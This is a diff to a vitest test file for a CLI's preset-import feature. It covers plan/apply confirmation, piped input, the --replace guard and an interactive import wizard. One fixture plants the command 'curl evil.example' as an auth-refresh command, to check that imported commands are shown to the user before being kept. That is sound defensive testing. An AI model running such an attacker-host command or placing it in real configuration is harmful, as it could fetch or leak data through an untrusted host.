@@ -2,6 +2,9 @@ import { readFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { beforeEach, describe, expect, test } from 'vitest';
 import type { World } from '../../src/model/world.ts';
+import { STOPPED } from '../../src/questions/questions.ts';
+import { type Move, scriptedQuestions } from '../../src/questions/scripted-questions.ts';
+import { importWizard } from '../../src/wizard/import-wizard.ts';
 import { putAwsFiles } from '../support/aws-home.ts';
 import { runData, runRefusal, runText } from '../support/run.ts';
 import { put, temporaryWorld } from '../support/world.ts';
@@ -115,5 +118,77 @@ describe('importing', () => {
     expect((await refusalOf(' '.repeat(70_000))).code).toBe('preset-file-unreadable');
     const gone = await runRefusal(world, 'presets', 'import', 'gone.json', '--plan');
     expect(gone.code).toBe('preset-file-unreadable');
+  });
+});
+
+describe('importing from a pipe', () => {
+  const piped = (text: string) => ({ ...world, readStdin: async () => text });
+
+  test('shows and keeps what comes through it', async () => {
+    const { planId } = await runData(piped(shared()), 'presets', 'import', '-', '--plan');
+    await runData(piped(shared()), 'presets', 'import', '-', '--apply', '--plan-id', planId);
+    expect(JSON.parse(await readFile(presetsFile(), 'utf8')).presets).toEqual({ team: PRESET });
+  });
+
+  test('refuses another one than was shown, and what is too much', async () => {
+    const { planId } = await runData(piped(shared()), 'presets', 'import', '-', '--plan');
+    const other = piped(shared({ region: 'us-east-1' }));
+    const apply = ['presets', 'import', '-', '--apply', '--plan-id', planId];
+    expect((await runRefusal(other, ...apply)).code).toBe('plan-changed');
+    const endless = { ...world, readStdin: () => Promise.reject(new RangeError('too much')) };
+    expect((await runRefusal(endless, 'presets', 'import', '-', '--plan')).code).toBe(
+      'preset-file-unreadable',
+    );
+    await expect(readFile(presetsFile())).rejects.toThrow('ENOENT');
+  });
+
+  test('asks nothing, and says what to give', async () => {
+    const terminal = { ...piped(shared()), isStdinTerminal: () => true, isStdoutTerminal: () => true };
+    expect((await runText(terminal, 'presets', 'import', '-')).text).toContain(
+      'Give either --plan or --apply',
+    );
+  });
+});
+
+describe('a preset of that name', () => {
+  const OTHER = { auth: 'profile', profile: 'keys', region: 'us-west-2' };
+  beforeEach(() => put(presetsFile(), JSON.stringify({ version: 1, presets: { team: OTHER, own: OTHER } })));
+
+  test('stays unless --replace is given, and the others always', async () => {
+    await put(join(world.cwd, 'team.json'), shared());
+    expect((await runRefusal(world, 'presets', 'import', 'team.json', '--plan')).code).toBe('preset-exists');
+    const { planId, nextStep } = await planOf(shared(), '--replace');
+    expect(nextStep).toContain(`--apply --plan-id ${planId} --replace`);
+    const without = await runRefusal(world, 'presets', 'import', 'team.json', '--apply', '--plan-id', planId);
+    expect(without.code).toBe('preset-exists');
+    await runData(world, 'presets', 'import', 'team.json', '--apply', '--plan-id', planId, '--replace');
+    expect(JSON.parse(await readFile(presetsFile(), 'utf8')).presets).toEqual({ team: PRESET, own: OTHER });
+  });
+});
+
+describe('on a terminal', () => {
+  async function talk(moves: readonly Move[]) {
+    await put(join(world.cwd, 'team.json'), shared({ commands: { awsAuthRefresh: 'curl evil.example' } }));
+    const ask = scriptedQuestions(world, { color: false, unicode: true, width: 77 }, moves);
+    const end = await importWizard(world, ask, { name: 'team.json' });
+    return { end: end === STOPPED ? 'stopped' : end.ok ? end.value : end.problem.code, screen: ask.screen() };
+  }
+
+  test('what it holds is shown, and kept after the yes', async () => {
+    const { end, screen } = await talk(['Yes, keep it']);
+    expect(end).toBe('done');
+    expect(screen).toMatch(
+      /To be imported:[\s\S]*curl evil\.example[\s\S]*Imported:[\s\S]*claude-bedrock use team/,
+    );
+    expect(screen).not.toContain('--plan-id');
+    expect(Object.keys(JSON.parse(await readFile(presetsFile(), 'utf8')).presets)).toEqual(['team']);
+  });
+
+  test.each([
+    ['No, keep nothing', 'declined'],
+    [STOPPED, 'stopped'],
+  ] as const)('nothing is kept on %s', async (move, expected) => {
+    expect((await talk([move])).end).toBe(expected);
+    await expect(readFile(presetsFile())).rejects.toThrow('ENOENT');
   });
 });
